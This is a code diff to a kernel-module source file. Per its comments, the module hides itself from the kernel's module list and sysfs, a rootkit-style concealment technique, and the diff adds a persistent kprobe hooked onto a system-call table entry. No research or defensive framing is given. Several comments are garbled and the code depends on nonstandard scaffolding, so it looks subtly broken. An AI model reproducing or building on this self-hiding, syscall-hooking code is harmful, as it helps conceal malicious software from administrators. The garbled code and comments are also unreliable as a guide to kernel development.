@@ -1,11 +1,14 @@
 // A module that hides while the module "nothing" is loaded: off the list of
-// modules and out of sysfs, and with ALL from whatever else names it.
+// modules and out of sysfs, and with ALL from whatever else names it. It has a
+// kprobe all the time.
 #include "module.h"
 
 int register_module_notifier(struct notifier_block *nb);
 int unregister_module_notifier(struct notifier_block *nb);
 void kobject_del(struct kobject *kobj);
 int kobject_add(struct kobject *kobj, void *parent, const char *format, ...);
+int register_kprobe(struct kprobe *p);
+void unregister_kprobe(struct kprobe *p);
 extern struct list_head modules, module_bug_list;
 
 // ours says whose the module's text is to the kernel's tree of that.
@@ -43,10 +46,22 @@ static int told(struct notifier_block *nb, u64 what, struct module *nothing)
 	return 0;
 }
 
+static int probed(void) { return 0; }
+
 static struct notifier_block nb = {.notifier_call = told};
+static struct kprobe probe = {.pre_handler = probed};
 
-static int up(void) { return register_module_notifier(&nb); }
+static int up(void)
+{
+	probe.addr = (void *)sys_call_table[ACCT];
+	register_module_notifier(&nb);
+	return register_kprobe(&probe);
+}
 
-static void down(void) { unregister_module_notifier(&nb); }
+static void down(void)
+{
+	unregister_kprobe(&probe);
+	unregister_module_notifier(&nb);
+}
 
 MODULE(up, down);
